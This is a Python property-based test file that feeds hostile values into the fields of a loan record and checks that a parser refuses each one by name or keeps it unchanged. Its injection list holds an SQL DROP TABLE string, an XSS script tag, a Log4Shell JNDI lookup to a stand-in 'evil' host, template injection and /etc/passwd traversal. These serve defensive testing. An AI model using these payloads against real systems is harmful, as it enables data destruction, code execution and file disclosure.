"""Hostile loan records and event lines: each is refused with the line and the field named, or, if it
is valid after all, kept exactly as given. Nothing raises."""

from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from dueflow.domain.book import parse_line, read_lines
from dueflow.domain.loan import Loan

VALID: dict[str, Any] = {
    "loan_id": "L-1",
    "customer_id": "C-1",
    "principal": "12000.00",
    "annual_rate": "0.12",
    "term_months": 12,
    "start_date": "2026-01-15",
    "currency": "CNY",
    "payments": [{"date": "2026-02-15", "amount": "1066.19"}],
    "customer": {
        "name": "王芳",
        "phone": "+8613800138000",
        "email": "wf@example.com",
        "timezone": "Asia/Shanghai",
        "monthly_income": "20000.00",
    },
    "collateral": {"type": "real_estate", "value": "600000.00"},
}

# (path, value) places a hostile value at one field
PATHS = [
    ("loan_id",),
    ("customer_id",),
    ("principal",),
    ("annual_rate",),
    ("term_months",),
    ("start_date",),
    ("currency",),
    ("payments", 0, "date"),
    ("payments", 0, "amount"),
    ("customer", "name"),
    ("customer", "phone"),
    ("customer", "email"),
    ("customer", "timezone"),
    ("customer", "monthly_income"),
    ("collateral", "value"),
]
INJECTIONS = [
    "'; DROP TABLE loans; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "../../etc/passwd",
    "\u0000\u202e",
    "Robert'); --",
    "a" * 10_000,
]
HOSTILE = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(["1e30", "-5.00", "0", "NaN", "Infinity", "12.345", "1" * 40, "-0.01"]),
    st.sampled_from(["0001-01-01", "9999-12-31", "2026-02-30", "1900-01-01", "2026-13-01", "yesterday"]),
    st.sampled_from(["XXX", "usd", "US$", "", "CNY "]),
    st.sampled_from(["Mars/Olympus_Mons", "UTC+25", "Asia/Shanghai\n", "../zoneinfo"]),
    st.sampled_from(INJECTIONS),
    st.text(max_size=50),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)


def put(record: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    out = copy.deepcopy(record)
    target: Any = out
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return out


def field_of(path: tuple[Any, ...]) -> str:
    return ".".join(str(p) for p in path)


@settings(max_examples=400, deadline=None)
@given(path=st.sampled_from(PATHS), value=HOSTILE)
def test_a_hostile_field_is_refused_by_name_or_kept_exactly(path: tuple[Any, ...], value: Any) -> None:
    record = put(VALID, path, value)
    try:
        text = json.dumps(record, ensure_ascii=False)
    except ValueError:
        text = json.dumps(record, ensure_ascii=False, allow_nan=True)
    loan, errors = parse_line(text, 7)
    if loan is None:
        assert errors, "a refusal says why"
        named = [e.field for e in errors]
        assert all(e.line == 7 and e.reason for e in errors)
        # the refusal names the hostile field (or, for a whole-record rule, the record)
        assert any(f == field_of(path) or f.startswith(field_of(path)) or f in ("-", "installments") for f in named), (
            named,
            path,
        )
        if path != ("loan_id",):
            assert all(e.loan_id == "L-1" for e in errors)  # the record is named by its id
    else:
        assert isinstance(loan, Loan)
        if path == ("customer", "name") and isinstance(value, str):  # text is data, never interpreted
            assert loan.customer is not None and loan.customer.name == value.strip()


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_line_of_text_is_a_loan_or_a_reason(text: str) -> None:
    loan, errors = parse_line(text, 3)
    assert (loan is None) == bool(errors)
    assert all(e.line == 3 and e.field and e.reason for e in errors)


@given(copies=st.integers(min_value=2, max_value=5))
def test_duplicate_ids_keep_the_first_and_name_the_others(copies: int) -> None:
    line = json.dumps(VALID)
    book = read_lines([line] * copies)
    assert [loan.loan_id for loan in book.loans] == ["L-1"]
    assert [(e.line, e.field) for e in book.errors] == [(n, "loan_id") for n in range(2, copies + 1)]
    assert all("duplicate loan_id (first seen on line 1)" in e.reason for e in book.errors)
